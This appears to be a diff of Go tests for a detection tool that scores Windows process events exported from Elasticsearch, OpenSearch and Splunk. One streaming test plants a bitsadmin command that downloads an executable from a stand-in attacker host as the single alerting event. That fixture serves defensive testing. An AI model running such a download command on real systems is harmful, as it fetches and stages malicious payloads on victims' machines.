@@ -12,6 +12,8 @@ import (
 	"testing"
 	"time"
 
+	"github.com/google/go-cmp/cmp"
+
 	"bitsscore/src/winevent"
 )
 
@@ -185,7 +187,7 @@ func ingested(doc *ordered) {
 // ecsOutputs writes Winlogbeat documents as the ways they leave Elastic:
 // JSON lines (Winlogbeat's file output, Logstash), Elasticsearch hits
 // (_search, elasticdump) and Kibana's CSV export.
-func ecsOutputs(docs []*ordered, label string) map[string][]byte {
+func ecsOutputs(t *testing.T, docs []*ordered, label string) map[string][]byte {
 	var lines, hits [][]byte // hits: as Elasticsearch returns a document, and elasticdump writes it
 	var columns []string
 	var rows [][2]string
@@ -220,11 +222,51 @@ func ecsOutputs(docs []*ordered, label string) map[string][]byte {
 	}
 	w.Flush()
 	return map[string][]byte{
-		"ECS, " + label + ", JSON lines":             joinLines(lines, "\n"),
-		"ECS, " + label + ", JSON array":             []byte("[" + string(joinLines(lines, ",\n")) + "]"),
-		"ECS, " + label + ", elasticdump hits":       joinLines(hits, "\n"),
-		"ECS, " + label + ", Kibana CSV (dot names)": b.Bytes(),
+		"ECS, " + label + ", JSON lines":                                joinLines(lines, "\n"),
+		"ECS, " + label + ", JSON array":                                []byte("[" + string(joinLines(lines, ",\n")) + "]"),
+		"ECS, " + label + ", elasticdump hits":                          joinLines(hits, "\n"),
+		"ECS, " + label + ", Kibana CSV (dot names)":                    b.Bytes(),
+		"ECS, " + label + ", Elasticsearch _search response":            searchResponse(hits, `{"value":`+strconv.Itoa(len(hits))+`,"relation":"eq"}`, ""),
+		"ECS, " + label + ", Elasticsearch 6 _search, two scroll pages": searchPages(hits),
+		"ECS, " + label + ", OpenSearch _search response, pretty":       prettyResponse(t, hits),
 	}
+}
+
+// searchResponse writes hits as Elasticsearch (and OpenSearch) answer a
+// _search: the hits in hits.hits, after the response's own members and
+// hits.total, and before extra (the aggregations, when asked for).
+func searchResponse(hits [][]byte, total, extra string) []byte {
+	return []byte(`{"took":5,"timed_out":false,"_shards":{"total":1,"successful":1,"skipped":0,"failed":0},` +
+		`"hits":{"total":` + total + `,"max_score":1.0,"hits":[` + string(joinLines(hits, ",")) + `]}` + extra + `}`)
+}
+
+// searchPages writes hits as Elasticsearch 6 answers a scroll: each page
+// a response of its own, with the scroll's id, hits.total a number and
+// each hit its _type; the pages one after the other, as a script that
+// saves every page to one file writes them.
+func searchPages(hits [][]byte) []byte {
+	typed := make([][]byte, len(hits))
+	for i, hit := range hits {
+		typed[i] = []byte(`{"_type":"doc",` + string(hit[1:]))
+	}
+	half := len(typed) / 2
+	total := strconv.Itoa(len(typed))
+	return joinLines([][]byte{
+		append([]byte(`{"_scroll_id":"DXF1ZXJ5QW5kRmV0Y2gBAAAAAAAAAD4WYm9laVYtZndUQlNsdDcwakFMNjU1QQ==",`), searchResponse(typed[:half], total, "")[1:]...),
+		append([]byte(`{"_scroll_id":"DXF1ZXJ5QW5kRmV0Y2gBAAAAAAAAAD4WYm9laVYtZndUQlNsdDcwakFMNjU1QQ==",`), searchResponse(typed[half:], total, "")[1:]...),
+	}, "\n")
+}
+
+// prettyResponse writes hits as OpenSearch Dashboards' Dev Tools (or
+// ?pretty) show a response: indented, with aggregations after the hits.
+func prettyResponse(t *testing.T, hits [][]byte) []byte {
+	response := searchResponse(hits, `{"value":`+strconv.Itoa(len(hits))+`,"relation":"eq"}`,
+		`,"aggregations":{"hosts":{"doc_count_error_upper_bound":0,"sum_other_doc_count":0,"buckets":[{"key":"ws5","doc_count":1}]}}`)
+	var b bytes.Buffer
+	if err := json.Indent(&b, response, "", "  "); err != nil {
+		t.Fatal(err)
+	}
+	return b.Bytes()
 }
 
 func containsString(list []string, s string) bool {
@@ -244,8 +286,8 @@ func ecsShapes(t *testing.T, lines [][]byte) map[string][]byte {
 		ingested(doc)
 		after = append(after, doc)
 	}
-	shapes := ecsOutputs(raw, "Winlogbeat")
-	for name, input := range ecsOutputs(after, "after the ingest pipelines") {
+	shapes := ecsOutputs(t, raw, "Winlogbeat")
+	for name, input := range ecsOutputs(t, after, "after the ingest pipelines") {
 		shapes[name] = input
 	}
 	return shapes
@@ -378,7 +420,7 @@ func TestECSSysmonGivesTheSameAlerts(t *testing.T) {
 	if sysmon1 == 0 {
 		t.Fatal("the recordings have no Sysmon 1 event: the test would prove nothing")
 	}
-	checkShapes(t, want, ecsOutputs(docs, "Sysmon and Security after the ingest pipelines"))
+	checkShapes(t, want, ecsOutputs(t, docs, "Sysmon and Security after the ingest pipelines"))
 }
 
 // cimRow writes a process launch as a table of Splunk CIM fields
@@ -452,4 +494,67 @@ func TestCIMOnlyExportGivesTheSameAlerts(t *testing.T) {
 		"CSV of a tstats search, Processes. prefix": tstats.Bytes(),
 		"JSON lines of CIM fields":                  joinLines(jsonLines, "\n"),
 	})
+}
+
+// A search response, like a REST results document, is read hit by hit:
+// with the cap on one event at 1 MiB, documents of 4 MiB give every event
+// (were a document read whole, it would be one event over the cap), and
+// the attack at the end still alerts.
+func TestSearchResponsesAreStreamed(t *testing.T) {
+	defer func(saved int) { maxEvent = saved }(maxEvent)
+	maxEvent = 1 << 20
+	padding := strings.Repeat("x", 200)
+	const quiet = 20000
+	var hits, results []string
+	for i := range quiet + 1 {
+		commandLine := fmt.Sprintf(`notepad.exe C:\\notes\\%d-%s.txt`, i, padding)
+		image := `C:\\Windows\\System32\\notepad.exe`
+		if i == quiet {
+			commandLine, image = `bitsadmin /transfer j https://evil.example/a.exe C:\\Users\\Public\\a.exe`, `C:\\Windows\\System32\\bitsadmin.exe`
+		}
+		hits = append(hits, fmt.Sprintf(`{"_index":"winlogbeat-8","_id":"%d","_score":1,"_source":{"winlog":{"event_id":"1",`+
+			`"provider_name":"Microsoft-Windows-Sysmon","channel":"Microsoft-Windows-Sysmon/Operational","event_data":{"CommandLine":"%s","Image":"%s"}}}}`,
+			i, commandLine, image))
+		results = append(results, fmt.Sprintf(`{"EventCode":"1","CommandLine":"%s","Image":"%s"}`, commandLine, image))
+	}
+	for name, input := range map[string]string{
+		"Elasticsearch _search response": `{"took":5,"timed_out":false,"hits":{"total":{"value":20001,"relation":"eq"},"hits":[` + strings.Join(hits, ",") + `]}}`,
+		"Splunk REST results document":   `{"preview":false,"init_offset":0,"results":[` + strings.Join(results, ",") + `]}`,
+	} {
+		t.Run(name, func(t *testing.T) {
+			if len(input) < 4*maxEvent {
+				t.Fatalf("the document is %d bytes, want at least 4 times the cap", len(input))
+			}
+			_, stderr, status := runScore(strings.NewReader(input), "--format", "csv")
+			if want := fmt.Sprintf("-: %d events scored, 1 alert, 0 could not be read", quiet+1); status != ExitAlert || !strings.Contains(stderr, want) {
+				t.Errorf("status %d, stderr %q; want 1 and %q", status, stderr, want)
+			}
+		})
+	}
+}
+
+// A "hits" that is not a search response's is a field of its event, its
+// digits and text as they were; a hit outside a search response is read as
+// its _source.
+func TestHitsOutsideASearchResponse(t *testing.T) {
+	input := `{"hits":18446744073709551615,"CommandLine":"a"}` + "\n" +
+		`{"hits":{"total":{"value":1},"hits":"none","max":[1.50,{"x":"<\u00e9>"}]},"CommandLine":"b"}` + "\n" +
+		`{"_index":"i","_id":"1","_source":{"CommandLine":"c","hits":{"hits":[]}}}`
+	want := []map[string][]string{
+		{"hits": {"18446744073709551615"}, "CommandLine": {"a"}, "sourcetype": {"XmlWinEventLog"}},
+		{"hits.total.value": {"1"}, "hits.hits": {"none"}, "hits.max{}": {"1.5"}, "hits.max{}.x": {"<é>"}, "CommandLine": {"b"}, "sourcetype": {"XmlWinEventLog"}},
+		{"CommandLine": {"c"}, "sourcetype": {"XmlWinEventLog"}},
+	}
+	var got []map[string][]string
+	err := readEvents("f", strings.NewReader(input), nil, func(ev *inputEvent) {
+		got = append(got, ev.fields)
+	}, func(e *inputError) {
+		t.Errorf("line %d: %v", e.line, e.err)
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if diff := cmp.Diff(want, got); diff != "" {
+		t.Errorf("fields (-want +got):\n%s", diff)
+	}
 }
